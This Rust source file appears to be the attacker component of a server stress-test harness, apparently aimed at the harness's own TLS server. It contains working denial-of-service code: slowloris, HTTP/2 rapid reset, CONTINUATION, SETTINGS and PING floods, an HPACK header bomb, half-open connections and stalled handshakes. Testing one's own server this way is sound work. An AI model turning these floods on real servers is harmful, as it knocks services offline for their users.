//! The attacker: a process of its own, with the lowest priority, that does one thing at a bounded rate until it is killed.
//!
//! Frames are written by hand (RFC 9113 section 4.1), because no client would send them.

use rustls::pki_types::{CertificateDer, ServerName};
use std::cell::Cell;
use std::net::SocketAddr;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::{LocalSet, spawn_local};
use tokio::time::{interval, sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// What is done, how often in a second, and how many of it may be under way.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) rate: u32,
    pub(crate) most: usize,
}

/// Each of them.
pub(crate) const ATTACKS: [Attack; 11] = [
    Attack { name: "half-open connections", rate: 100, most: 2000 },
    Attack { name: "handshakes that stop", rate: 100, most: 2000 },
    Attack { name: "handshakes", rate: 50, most: 50 },
    Attack { name: "slowloris", rate: 20, most: 500 },
    Attack { name: "rapid reset", rate: 10, most: 10 },
    Attack { name: "CONTINUATION", rate: 10, most: 10 },
    Attack { name: "SETTINGS", rate: 4, most: 4 },
    Attack { name: "PING", rate: 4, most: 4 },
    Attack { name: "header bomb", rate: 20, most: 20 },
    Attack { name: FORGED, rate: 500, most: 8 },
    Attack { name: ONE_CLIENT, rate: 500, most: 8 },
];

/// Those whose requests are in a file, one after the other, each on a line.
pub(crate) const FORGED: &str = "forged tokens";
pub(crate) const ONE_CLIENT: &str = "one client";

/// Goes on until the process is killed.
pub(crate) async fn run(name: &str, address: &str, ca: &str, path: &str) {
    let attack = ATTACKS.iter().find(|attack| attack.name == name).unwrap();
    let mut roots = rustls::RootCertStore::empty();
    roots.add(CertificateDer::from(std::fs::read(ca).unwrap())).unwrap();
    let tls = rustls::ClientConfig::builder().with_root_certificates(roots).with_no_client_auth();
    let target = Rc::new(Target { address: address.parse().unwrap(), tls: Arc::new(tls) });
    let requests = std::fs::read_to_string(path).unwrap_or_default();
    let requests: Vec<Vec<u8>> =
        requests.lines().map(|line| line.replace('\t', "\r\n").into_bytes()).collect();
    let done = Rc::<Cell<u64>>::default();
    let everything = async {
        spawn_local(tell(Rc::clone(&done), std::path::Path::new(path).with_extension("done")));
        if requests.is_empty() {
            again_and_again(attack, target, done).await
        } else {
            ask(attack, target, requests, done).await
        }
    };
    LocalSet::new().run_until(everything).await;
}

/// Writes down, now and then, how often it was done.
async fn tell(done: Rc<Cell<u64>>, path: std::path::PathBuf) {
    loop {
        let _ = std::fs::write(&path, done.get().to_string());
        sleep(Duration::from_millis(100)).await;
    }
}

struct Target {
    address: SocketAddr,
    tls: Arc<rustls::ClientConfig>,
}

impl Target {
    async fn tls(&self, protocol: &[u8]) -> std::io::Result<TlsStream<TcpStream>> {
        let mut client = (*self.tls).clone();
        client.alpn_protocols = vec![protocol.to_vec()];
        // A handshake each time.
        client.resumption = rustls::client::Resumption::disabled();
        let stream = TcpStream::connect(self.address).await?;
        TlsConnector::from(Arc::new(client)).connect(ServerName::try_from("localhost").unwrap(), stream).await
    }
}

async fn again_and_again(attack: &'static Attack, target: Rc<Target>, done: Rc<Cell<u64>>) {
    let mut pace = interval(Duration::from_secs(1) / attack.rate);
    let under_way = Rc::<Cell<usize>>::default();
    loop {
        pace.tick().await;
        if under_way.get() >= attack.most {
            continue;
        }
        under_way.set(under_way.get() + 1);
        done.set(done.get() + 1);
        let (target, under_way) = (Rc::clone(&target), Rc::clone(&under_way));
        spawn_local(async move {
            let _ = timeout(Duration::from_secs(60), once(attack.name, &target)).await;
            under_way.set(under_way.get() - 1);
        });
    }
}

/// One of it, to its end, which the other side sets.
async fn once(name: &str, target: &Target) -> std::io::Result<()> {
    match name {
        "half-open connections" => rest(&mut TcpStream::connect(target.address).await?).await,
        "handshakes that stop" => {
            let mut stream = TcpStream::connect(target.address).await?;
            stream.write_all(&[22, 3, 1, 2, 0, 1, 0]).await?;
            rest(&mut stream).await
        }
        "handshakes" => target.tls(b"http/1.1").await.map(drop),
        "slowloris" => {
            let mut stream = target.tls(b"http/1.1").await?;
            stream.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ").await?;
            loop {
                stream.write_all(b"x").await?;
                stream.flush().await?;
                sleep(Duration::from_millis(500)).await;
            }
        }
        "rapid reset" => {
            flood(target, |n| [head(2 * n + 1, 4), frame(3, 0, 2 * n + 1, &[0, 0, 0, 8])].concat()).await
        }
        "CONTINUATION" => {
            flood(target, |n| if n == 0 { head(1, 1) } else { frame(9, 0, 1, &field("x", "y")) }).await
        }
        "SETTINGS" => drip(target, &frame(4, 0, 0, &[])).await,
        "PING" => drip(target, &frame(6, 0, 0, &[7; 8])).await,
        "header bomb" => {
            let value = [&[0x40, 6][..], b"cookie", &[0x7f, 0x81, 0x17], &[b'a'; 3072]].concat();
            let block = [request(), value, vec![0x80 | 62; 10_000]].concat();
            let mut stream = h2(target).await?;
            stream.write_all(&frame(1, 5, 1, &block)).await?;
            rest(&mut stream).await
        }
        _ => Ok(()),
    }
}

/// Two thousand of it as fast as they are taken.
async fn flood(target: &Target, one: impl Fn(u32) -> Vec<u8>) -> std::io::Result<()> {
    let mut stream = h2(target).await?;
    let all: Vec<u8> = (0..2000).flat_map(one).collect();
    stream.write_all(&all).await?;
    rest(&mut stream).await
}

/// Some thousand of it in a second, the answers read, until the connection ends.
async fn drip(target: &Target, one: &[u8]) -> std::io::Result<()> {
    let (mut reader, mut writer) = tokio::io::split(h2(target).await?);
    let lot = one.repeat(20);
    let write = async {
        loop {
            writer.write_all(&lot).await?;
            writer.flush().await?;
            sleep(Duration::from_millis(10)).await;
        }
    };
    tokio::select! { ended = rest(&mut reader) => ended, ended = write => ended }
}

/// The requests in turn, over connections that stay open.
async fn ask(attack: &Attack, target: Rc<Target>, requests: Vec<Vec<u8>>, done: Rc<Cell<u64>>) {
    let requests = Rc::new(requests);
    let each = Duration::from_secs(1) * attack.most as u32 / attack.rate;
    for worker in 0..attack.most {
        let (target, requests, most) = (Rc::clone(&target), Rc::clone(&requests), attack.most);
        let done = Rc::clone(&done);
        spawn_local(async move {
            let (mut pace, mut open, mut seen) = (interval(each), None, vec![0; 16 * 1024]);
            for at in (worker..).step_by(most) {
                pace.tick().await;
                if open.is_none() {
                    open = target.tls(b"http/1.1").await.ok();
                }
                let Some(stream) = &mut open else { continue };
                done.set(done.get() + 1);
                let sent = stream.write_all(&requests[at % requests.len()]).await;
                if sent.is_err() || !matches!(stream.read(&mut seen).await, Ok(1..)) {
                    open = None;
                }
            }
        });
    }
    std::future::pending::<()>().await;
}

async fn h2(target: &Target) -> std::io::Result<TlsStream<TcpStream>> {
    let mut stream = target.tls(b"h2").await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(4, 0, 0, &[])).await?;
    Ok(stream)
}

async fn rest(stream: &mut (impl tokio::io::AsyncRead + Unpin)) -> std::io::Result<()> {
    tokio::io::copy(stream, &mut tokio::io::sink()).await.map(drop)
}

fn frame(kind: u8, flags: u8, id: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &id.to_be_bytes(), payload].concat()
}

fn head(id: u32, flags: u8) -> Vec<u8> {
    frame(1, flags, id, &request())
}

fn request() -> Vec<u8> {
    let fields =
        [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/accounts/7")];
    fields.iter().flat_map(|(name, value)| field(name, value)).collect()
}

fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}
